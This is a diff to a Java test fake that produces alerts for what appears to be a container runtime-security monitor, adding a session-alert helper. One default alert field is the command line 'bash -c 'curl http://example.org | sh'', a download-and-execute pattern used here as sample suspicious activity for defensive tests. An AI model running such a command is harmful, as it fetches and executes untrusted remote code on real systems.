@@ -42,6 +42,11 @@ final class FakeAlerts implements AlertHistory {
     raise(Priority.NOTICE, rule, "in a pod", fields);
   }
 
+  /** An alert of a container and a session. */
+  void raiseInSession(String rule, String container, String session) {
+    raise(Priority.NOTICE, rule, "in a session", new TreeMap<>(Map.of("container.id", container, "session.id", session)));
+  }
+
   /** An alert of a command line. */
   void raiseWithCommand(String rule, String command) {
     raise(Priority.NOTICE, rule, "with a command line", new TreeMap<>(Map.of("proc.cmdline", command)));
@@ -55,7 +60,7 @@ final class FakeAlerts implements AlertHistory {
   private void raise(Priority priority, String rule, String message, TreeMap<String, @Nullable Object> fields, String... tags) {
     fields.putIfAbsent("proc.cmdline", "bash -c 'curl http://example.org | sh'");
     fields.put("proc.pid", 4_711L);
-    fields.put("container.id", null);
+    fields.putIfAbsent("container.id", null);
     long now = Instant.now().toEpochMilli() * 1_000_000;
     Alert alert = new Alert(now, priority, rule, "syscall", message, fields, new TreeSet<>(List.of(tags)));
     String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
